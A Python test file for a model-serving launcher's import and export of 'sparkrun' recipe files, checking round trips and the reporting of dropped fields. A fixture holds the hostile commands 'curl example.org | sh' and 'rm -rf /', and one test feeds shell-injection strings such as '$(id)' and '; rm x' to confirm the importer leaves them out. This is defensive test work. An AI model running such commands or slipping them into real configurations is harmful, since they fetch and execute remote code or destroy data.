"""A recipe goes to sparkrun's format and back: every value is the same, or was named as not carried."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from launcher.cli.recipe import app
from launcher.errors import ConfigError
from launcher.find_recipe import shipped_recipes
from launcher.recipe import Recipe
from launcher.registry.compare_recipes import compare_recipes
from launcher.sparkrun.export_recipe import export_recipe
from launcher.sparkrun.import_recipe import import_recipe

TEXT = st.text(st.sampled_from("abcXYZ019 ._-/:,'\"\\$`{}[]=&;|<>~#*?!"), min_size=1, max_size=12)
FLAGS: dict[str, st.SearchStrategy[object]] = {
    "page-size": st.integers(1, 256),
    "disable-radix-cache": st.just(True),
    "schedule-conservativeness": st.floats(0.1, 2, allow_nan=False),
    "log-level": st.sampled_from(["info", "debug"]),
    "json-model-override-args": TEXT,
    "cuda-graph-bs-decode": st.lists(st.integers(1, 64), min_size=2, max_size=4),
}


def maybe(strategy: st.SearchStrategy[object]) -> st.SearchStrategy[object]:
    return st.none() | strategy


@st.composite
def recipes(draw: st.DrawFn) -> Recipe:
    nodes, gpus = draw(st.integers(1, 4)), draw(st.sampled_from([1, 2]))
    server = {
        "port": draw(st.integers(1, 65535)),
        "host": draw(st.sampled_from(["127.0.0.1", "0.0.0.0"])),
        "context_length": draw(maybe(st.integers(1, 1 << 20))),
        "mem_fraction_static": draw(maybe(st.floats(0.01, 0.99))),
        "max_running_requests": draw(maybe(st.integers(1, 64))),
        "chunked_prefill_size": draw(maybe(st.sampled_from([-1, 2048, "auto"]))),
        "kv_cache_dtype": draw(maybe(st.sampled_from(["auto", "fp8_e4m3"]))),
        "watchdog_timeout_s": draw(maybe(st.floats(1, 600))),
        "enable_metrics": draw(st.booleans()),
        "flags": {name: draw(FLAGS[name]) for name in draw(st.sets(st.sampled_from(sorted(FLAGS))))},
    }
    names = st.sampled_from(["NCCL_DEBUG", "OMP_NUM_THREADS", "SGLANG_X"])
    value = {
        "schema_version": 1,
        "name": "any",
        "description": draw(TEXT),
        "model": {
            "path": draw(st.sampled_from(["name", "other/place"])),
            "repo": draw(maybe(st.just("owner/name"))),
            "served_name": draw(maybe(TEXT)),
        },
        "engine": {"runtime": draw(st.sampled_from(["venv", "cpu"]))},
        "parallelism": {"nodes": nodes, "gpus_per_node": gpus, "tp": nodes * gpus},
        "server": {key: item for key, item in server.items() if item is not None},
        "environment": draw(st.dictionaries(names, TEXT, max_size=3)),
        "limits": {"ready_timeout_s": draw(st.sampled_from([1800.0, 60.0]))},
    }  # fmt: skip
    return Recipe.model_validate(value)


def words(value: object) -> list[str]:
    return [str(item) for item in (value if isinstance(value, list) else [value])]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(recipes())
def test_round_trip(recipe: Recipe) -> None:
    text, left = export_recipe(recipe)
    told = {item.key for item in left}
    assert all(item.reason for item in left)
    if recipe.model.repo is None:
        assert "model.path" in told
        return  # sparkrun knows models by repository alone: there is no way back
    back, report = import_recipe(text, "any.yaml")
    assert report == ()
    for change in compare_recipes(recipe, back):
        if change.key.startswith("server.flags") and words(change.old) == words(change.new):
            continue  # 7 and "7" are the same word of a command line
        assert any(change.key == key or key.startswith(f"{change.key}.") for key in told), change


@pytest.mark.parametrize("name", sorted(shipped_recipes()))
def test_every_shipped_recipe_exports_or_says_what_it_lacks(name: str) -> None:
    result = CliRunner().invoke(app, ["export-sparkrun", name, "--json"])
    assert result.exit_code == 0
    said = json.loads(result.stdout)
    document = yaml.safe_load(said["yaml"])
    assert document["recipe_version"] == "2"
    assert document["defaults"].get("chunked_prefill_size") != "auto"  # SGLang would refuse it
    if name.startswith("v41"):
        assert "extensions.engram.residence" in {item["key"] for item in said["not_carried"]}


def test_an_exported_file_is_not_called_a_recipe_of_ours(tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["export-sparkrun", "local", "--output", str(tmp_path / "theirs.yaml")])
    assert result.exit_code == 0
    assert "theirs.yaml" in result.output
    assert "recipe validate" not in result.output


THEIRS = """\
recipe_version: "2"
model: owner/Model-7B
model_revision: abc123
runtime: sglang
container: example/sglang:latest
min_nodes: 2
max_nodes: 4
defaults:
  port: 8000
  host: 192.168.1.4
  tensor_parallel: 2
  gpu_memory_utilization: 0.8
  max_model_len: 32768
  made_up: 1
  tool_call_parser: "${PARSER}"
env:
  NCCL_DEBUG: INFO
  NCCL_IB_HCA: mlx5_0
  HOME_OF: $HOME
command: |
  python3 -m sglang.launch_server --model-path {model} --tp-size {tensor_parallel} \\
    --page-size 64 --no-such-option 1 --node-rank 0
metadata:
  description: A model
  maintainer: somebody
pre_exec: ["curl example.org | sh"]
post_commands: ["rm -rf /"]
surprise: 1
"""


def test_import_names_everything_that_it_leaves(tmp_path: Path) -> None:
    file, out = tmp_path / "theirs.yaml", tmp_path / "mine.yaml"
    file.write_text(THEIRS)
    result = CliRunner().invoke(app, ["import-sparkrun", str(file), "--output", str(out), "--json"])
    assert result.exit_code == 0, result.output
    told = {item["key"] for item in json.loads(result.stdout)["not_carried"]}
    assert told == {
        "container", "max_nodes", "defaults.host", "defaults.made_up", "defaults.tool_call_parser",
        "env.NCCL_IB_HCA", "env.HOME_OF", "command: --no-such-option", "metadata.maintainer", "pre_exec",
        "post_commands", "surprise",
    }  # fmt: skip
    made = yaml.safe_load(out.read_text())
    assert made["model"] == {"path": "Model-7B", "repo": "owner/Model-7B", "revision": "abc123"}
    assert made["server"] == {
        "port": 8000, "mem_fraction_static": 0.8, "context_length": 32768, "flags": {"page-size": 64},
    }  # fmt: skip
    assert made["environment"] == {"NCCL_DEBUG": "INFO"}
    assert CliRunner().invoke(app, ["validate", str(out)]).exit_code == 0


@pytest.mark.parametrize(
    "command",
    ["sglang --x $(id)", "sglang --x `id`", "sglang --page-size 1; rm x", "sglang > /etc/x", "sglang 'x"],
)
def test_commands_for_a_shell_are_told_not_read(command: str) -> None:
    text = yaml.safe_dump({"recipe_version": "2", "model": "a/b", "runtime": "sglang", "command": command})
    recipe, report = import_recipe(text, "a.yaml")
    assert [item.key for item in report] == ["command"]
    assert recipe.server.flags == {}


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"recipe_version": "1"}, "recipe_version must be 2"),
        ({"runtime": "vllm-ray"}, "runtime must be sglang"),
        ({"model": "/models/x"}, "owner/name"),
        ({"model": "a/b:Q4"}, "owner/name"),
    ],
)
def test_what_is_no_recipe_for_sglang_is_refused(changes: dict[str, str], said: str) -> None:
    text = yaml.safe_dump({"recipe_version": "2", "model": "a/b", "runtime": "sglang", **changes})
    with pytest.raises(ConfigError, match=said):
        import_recipe(text, "a.yaml")
